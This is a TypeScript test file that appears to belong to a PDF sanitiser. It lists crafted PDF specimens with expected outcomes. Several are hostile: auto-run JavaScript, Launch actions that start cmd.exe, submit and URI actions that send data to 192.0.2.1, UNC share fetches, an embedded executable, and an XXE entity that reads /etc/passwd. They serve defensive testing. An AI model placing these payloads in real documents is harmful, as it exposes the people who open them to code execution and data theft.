import { accepted, book, drawn, LETTER, latin1, refused, type Specimen, stream } from './specimen.ts'

const SCRIPT = '<< /S /JavaScript /JS (app.alert(1); this.submitForm("http://192.0.2.1/")) >>'
const RECT = '/Rect [72 600 300 640]'
const note = (words: string) => () =>
  book([`${LETTER} /Annots [6 0 R]`], { more: [`<< /Type /Annot ${RECT} ${words} >>`, stream('0 0 9 9 re f', '/Type /EmbeddedFile')] })
const catalog = (words: string) => () =>
  book([LETTER], { catalog: words, more: [stream('MZ\x90', '/Type /EmbeddedFile'), '<< /Type /Filespec /F (x.exe) /EF << /F 6 0 R >> >>'] })

const field =
  (words: string, appearance = '') =>
  () =>
    book([`${LETTER} /Annots [6 0 R]`], {
      catalog: '/AcroForm << /Fields [6 0 R] /DA (/Helv 12 Tf 0 g) /DR << /Font << /Helv 3 0 R >> >> >>',
      more: [
        `<< /Type /Annot /Subtype /Widget ${RECT} /F 4 /T (name) ${words} ${appearance} >>`,
        stream('0 0 99 20 re f', '/Type /XObject /Subtype /Form /BBox [0 0 228 40]'),
      ],
    })

const font =
  (words: string, ...more: string[]) =>
  () =>
    drawn('BT /F 14 Tf 72 700 Td (Lab results) Tj ET', `/Font << /F << /Type /Font ${words} >> >>`, ...more)

/** What a reader might do besides showing pages, forms, and letters that are not there: we send what is on the paper. */
export const active: readonly Specimen[] = [
  accepted('a script when it is opened', 1, catalog(`/OpenAction ${SCRIPT}`)),
  accepted('a script by name', 1, catalog(`/Names << /JavaScript << /Names [(run) ${SCRIPT}] >> >>`)),
  accepted('a script when it is closed', 1, catalog(`/AA << /WC ${SCRIPT} /WP ${SCRIPT} >>`)),
  accepted('a script when its page is shown', 1, () => book([`${LETTER} /AA << /O ${SCRIPT} /C ${SCRIPT} >>`])),
  accepted('a program that is to be started', 1, catalog('/OpenAction << /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>')),
  accepted('an address that is to be visited', 1, catalog('/OpenAction << /S /URI /URI (http://192.0.2.1/?stolen) >>')),
  accepted('a form that is to be sent', 1, catalog('/OpenAction << /S /SubmitForm /F (http://192.0.2.1/) >>')),
  accepted('data that is to be fetched', 1, catalog('/OpenAction << /S /ImportData /F (\\\\\\\\192.0.2.1\\\\share) >>')),
  accepted('another file that is to be opened', 1, catalog('/OpenAction << /S /GoToR /F (\\\\\\\\192.0.2.1\\\\x.pdf) /D [0 /Fit] >>')),
  accepted('an action that leads to itself', 1, () =>
    book([LETTER], { catalog: '/OpenAction 6 0 R', more: ['<< /S /GoTo /D [5 0 R /Fit] /Next 6 0 R >>'] }),
  ),
  accepted('a program inside', 1, catalog('/Names << /EmbeddedFiles << /Names [(x.exe) 7 0 R] >> >>')),
  accepted('a portfolio of files', 1, catalog('/Collection << /View /D >> /Names << /EmbeddedFiles << /Names [(x.exe) 7 0 R] >> >>')),
  accepted('a film', 1, note('/Subtype /Movie /Movie << /F (x.avi) >>')),
  accepted('a sound', 1, note('/Subtype /Sound /Sound 7 0 R')),
  accepted('a model in three dimensions', 1, note('/Subtype /3D /3DD 7 0 R')),
  accepted('rich media', 1, note('/Subtype /RichMedia /RichMediaContent << /Assets << >> >>')),
  accepted('a file pinned to the page', 1, note('/Subtype /FileAttachment /FS << /F (x.exe) /EF << /F 7 0 R >> >>')),
  accepted('a link that starts a program', 1, note('/Subtype /Link /A << /S /Launch /F (cmd.exe) >>')),
  accepted('a note that is its own parent', 1, note('/Subtype /Popup /Parent 6 0 R')),
  accepted('notes that are not a list', 1, () => book([`${LETTER} /Annots 42`])),
  accepted('notes that are not there', 1, () => book([`${LETTER} /Annots [77 0 R 78 0 R null 5]`])),
  accepted('a form that is filled in', 1, field('/FT /Tx /V (Jane Doe)')),
  accepted('a form with a picture of what is in it', 1, field('/FT /Tx /V (Jane Doe)', '/AP << /N 7 0 R >>')),
  accepted('a form with letters that the font lacks', 1, field('/FT /Tx /V <FEFF4E2D6587>')),
  accepted('a checkbox', 1, field('/FT /Btn /V /Yes /AS /Yes', '/AP << /N << /Yes 7 0 R /Off 7 0 R >> >>')),
  accepted('a choice without choices', 1, field('/FT /Ch /V (x)')),
  accepted('a signature field', 1, field('/FT /Sig /V << /Type /Sig /Filter /Adobe.PPKLite /ByteRange [0 1 2 3] /Contents <00> >>')),
  refused('a field of no kind', 'broken', field('')),
  refused('a field that is its own parent', 'too_complex', field('/FT /Tx /Parent 6 0 R')),
  accepted('a form without fields', 1, catalog('/AcroForm << >>')),
  refused('a form that is a number', 'broken', catalog('/AcroForm 42')),
  accepted('a form for Adobe that has pages as well', 1, catalog('/AcroForm << /Fields [] /XFA [(template) 6 0 R] >>')),
  refused('a form that only Adobe can draw', 'too_complex', catalog('/NeedsRendering true /AcroForm << /Fields [] /XFA 6 0 R >>')),
  accepted('a font of the fourteen', 1, font('/Subtype /Type1 /BaseFont /ZapfDingbats')),
  accepted('a font that nobody has', 1, font('/Subtype /TrueType /BaseFont /NoSuchFont-Bold')),
  accepted(
    'a font that is noise',
    1,
    font(
      '/Subtype /TrueType /BaseFont /Noise /FontDescriptor << /Type /FontDescriptor /FontName /Noise /Flags 4 /FontFile2 5 0 R >>',
      '<< /Length 9 >>\nstream\n\x01\x02noise!!\nendstream',
    ),
  ),
  accepted('a font that is not there', 1, () => drawn('BT /Nowhere 14 Tf (Lab results) Tj ET', '/Font 99 0 R')),
  accepted(
    'letters of Asia without their font',
    1,
    font(
      '/Subtype /Type0 /BaseFont /HeiseiMin-W3 /Encoding /90ms-RKSJ-H /DescendantFonts [<< /Type /Font /Subtype /CIDFontType0 /BaseFont /HeiseiMin-W3 /CIDSystemInfo << /Registry (Adobe) /Ordering (Japan1) /Supplement 2 >> >>]',
    ),
  ),
  accepted('a font that descends from itself', 1, () =>
    drawn(
      'BT /F 14 Tf (Lab results) Tj ET',
      '/Font << /F 5 0 R >>',
      '<< /Type /Font /Subtype /Type0 /BaseFont /X /Encoding /Identity-H /DescendantFonts [5 0 R] >>',
    ),
  ),
  accepted('letters that are drawings', 1, () =>
    drawn(
      'BT /F 14 Tf (a) Tj ET',
      '/Font << /F 5 0 R >>',
      '<< /Type /Font /Subtype /Type3 /FontBBox [0 0 9 9] /FontMatrix [.1 0 0 .1 0 0] /CharProcs << /a 6 0 R >> /Encoding << /Differences [97 /a] >> /FirstChar 97 /LastChar 97 /Widths [9] >>',
      stream('9 0 d0 0 0 9 9 re f'),
    ),
  ),
  accepted('letters that are drawn with themselves', 1, () =>
    drawn(
      'BT /F 14 Tf (a) Tj ET',
      '/Font << /F 5 0 R >>',
      '<< /Type /Font /Subtype /Type3 /FontBBox [0 0 9 9] /FontMatrix [.1 0 0 .1 0 0] /CharProcs << /a 6 0 R >> /Encoding << /Differences [97 /a] >> /FirstChar 97 /LastChar 97 /Widths [9] /Resources << /Font << /F 5 0 R >> >> >>',
      stream('9 0 d0 BT /F 14 Tf (a) Tj ET'),
    ),
  ),
  accepted('layers that are not printed', 1, catalog('/OCProperties << /OCGs [] /D << /Order [] >> >>')),
  accepted('a drawing for a signature from elsewhere', 1, () =>
    book([LETTER], {
      catalog: '/Metadata 6 0 R',
      more: [stream(latin1('<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'), '/Type /Metadata /Subtype /XML')],
    }),
  ),
]
